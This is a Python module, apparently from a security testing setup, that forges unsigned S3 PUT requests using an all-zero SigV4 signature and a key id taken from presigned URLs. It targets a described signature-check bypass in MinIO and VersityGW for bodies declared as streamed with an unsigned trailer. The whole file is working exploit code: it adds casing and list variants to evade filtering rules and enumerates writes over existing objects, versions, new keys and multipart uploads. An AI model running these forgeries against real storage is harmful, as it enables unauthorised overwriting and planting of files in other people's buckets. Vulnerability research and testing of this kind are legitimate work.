"""Unsigned writes that use only what URLs show (CVE-2026-41145 and similar holes).

A URL shows its account's key id, the bucket and the key; a download URL also the version. The pinned MinIO checks no
signature if the body claims to be streamed with an unsigned trailer; VersityGW does.
"""

import base64
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from itertools import product
from urllib.parse import parse_qs, quote, urlencode, urlsplit

import urllib3

UNSIGNED_TRAILER = "STREAMING-UNSIGNED-PAYLOAD-TRAILER"
# How the request describes its body; the last three bypass rules that mention only the first.
BODIES = (
    UNSIGNED_TRAILER,
    "STREAMING-AWS4-HMAC-SHA256-PAYLOAD-TRAILER",
    "STREAMING-AWS4-HMAC-SHA256-PAYLOAD",
    "UNSIGNED-PAYLOAD",
    "streaming-unsigned-payload-trailer",
    f"{UNSIGNED_TRAILER},UNSIGNED-PAYLOAD",
)
ZEROS = "0" * 64


def key_id_of(url: str) -> str:
    """Return the account's key id, which the URL shows."""
    return parse_qs(urlsplit(url).query)["X-Amz-Credential"][0].partition("/")[0]


def version_of(url: str) -> str | None:
    """Return the version that a URL names, if any."""
    return parse_qs(urlsplit(url).query).get("versionId", [None])[0]


@dataclass(frozen=True)
class Forgery:
    """One write with a signature of zeros."""

    key_id: str
    path: str
    query: dict[str, str]
    says: str  # of its body
    has_trailer: bool
    in_header: bool  # where the signature is

    def __str__(self) -> str:
        where = "header" if self.in_header else "query"
        trailer = "trailer" if self.has_trailer else "no trailer"
        return f"{self.path.rpartition('/')[2]} {sorted(self.query)} {self.says} {trailer} {where} by {self.key_id}"

    def send(self, http: urllib3.PoolManager, origin: str, body: bytes) -> int:
        """Return the store's status."""
        stamp = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
        scope = f"{self.key_id}/{stamp[:8]}/us-east-1/s3/aws4_request"
        headers, query = self._headers(len(body)), dict(self.query)
        if self.in_header:
            signed = f"Credential={scope}, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature={ZEROS}"
            headers |= {"authorization": f"AWS4-HMAC-SHA256 {signed}", "x-amz-date": stamp}
        else:
            query |= {"X-Amz-Algorithm": "AWS4-HMAC-SHA256", "X-Amz-Credential": scope, "X-Amz-Date": stamp}
            query |= {"X-Amz-Expires": "60", "X-Amz-SignedHeaders": "host", "X-Amz-Signature": ZEROS}
        url = f"{origin}{quote(self.path)}?{urlencode(query, quote_via=quote)}"
        return http.request("PUT", url, body=self._framed(body), headers=headers).status

    def _headers(self, size: int) -> dict[str, str]:
        headers = {"content-type": "audio/mpeg", "x-amz-content-sha256": self.says}
        if self.says.upper().startswith("STREAMING-"):
            headers |= {"content-encoding": "aws-chunked", "x-amz-decoded-content-length": str(size)}
            if self.has_trailer:
                headers["x-amz-trailer"] = "x-amz-checksum-crc32"
        return headers

    def _framed(self, body: bytes) -> bytes:
        if not self.says.upper().startswith("STREAMING-"):
            return body
        crc32 = base64.b64encode(zlib.crc32(body).to_bytes(4, "big"))
        trailer = b"x-amz-checksum-crc32:%s\r\n" % crc32 if self.has_trailer else b""
        return b"%x\r\n%s\r\n0\r\n%s\r\n" % (len(body), body, trailer)


def forgeries(key_ids: list[str], bucket: str, object_key: str, version: str | None, part: str) -> Iterator[Forgery]:
    """Yield all that are worth trying: at the file, its version, a new key, incoming/, and a part of an upload."""
    folder = object_key.rpartition("/")[0]
    targets = [
        (object_key, {}),
        (f"{folder}/forged.mp3", {}),
        ("incoming/local/forged", {}),
        (object_key, {"partNumber": "1", "uploadId": part}),
    ]
    if version:
        targets[1:1] = [(object_key, {"versionId": version}), (f"{folder}/forged.mp3", {"versionId": version})]
    for (key, query), says, key_id, trailer, header in product(targets, BODIES, key_ids, (True, False), (False, True)):
        yield Forgery(key_id, f"/{bucket}/{key}", query, says, trailer, header)
